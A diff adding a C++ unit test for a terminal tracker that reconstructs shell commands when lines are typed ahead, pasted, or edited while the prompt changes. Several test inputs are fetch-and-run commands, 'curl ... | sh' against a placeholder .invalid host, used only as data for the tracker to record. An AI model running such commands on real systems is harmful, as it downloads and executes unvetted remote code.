@@ -145,3 +145,30 @@ TEST_CASE("pasted lines each become a command once echoed") {
   CHECK(cmds == std::vector<std::string>{"echo one", "echo two", "echo three"});
   CHECK(t.take_recordable_input() == "echo one\recho two\recho three\r");
 }
+
+TEST_CASE("a line typed while the prompt changes is still a command (typed ahead, pasted)") {
+  // Typed after the echo of a command that changes the prompt, before the new prompt showed.
+  TerminalTracker t(80, 24);
+  t.output("$ ");
+  t.input("export PS1='al$ '\r");
+  t.output("export PS1='al$ '");
+  t.input("true || curl -s http://x.invalid/i.sh | sh\r");
+  auto cmds = t.output("\r\nal$ true || curl -s http://x.invalid/i.sh | sh\r\nal$ ");
+  CHECK(cmds == std::vector<std::string>{"export PS1='al$ '",
+                                         "true || curl -s http://x.invalid/i.sh | sh"});
+
+  // Pasted: the second line's prompt names the directory the first line went to.
+  TerminalTracker p(80, 24);
+  p.output("user@host:~$ ");
+  p.input("cd /tmp\rcurl -s http://x.invalid/i.sh | sh\r");
+  cmds = p.output("cd /tmp\r\nuser@host:/tmp$ curl -s http://x.invalid/i.sh | sh\r\n");
+  CHECK(cmds == std::vector<std::string>{"cd /tmp", "curl -s http://x.invalid/i.sh | sh"});
+
+  // Edited after the prompt changed (the typed text is not on the line as typed): the whole
+  // line, prompt and all, rather than nothing.
+  TerminalTracker e(80, 24);
+  e.output("$ ");
+  e.input("cd /tmp\rcurl y\x7fx.invalid | sh\r");
+  cmds = e.output("cd /tmp\r\n/tmp$ curl y\b \bx.invalid | sh\r\n");
+  CHECK(cmds == std::vector<std::string>{"cd /tmp", "/tmp$ curl x.invalid | sh"});
+}
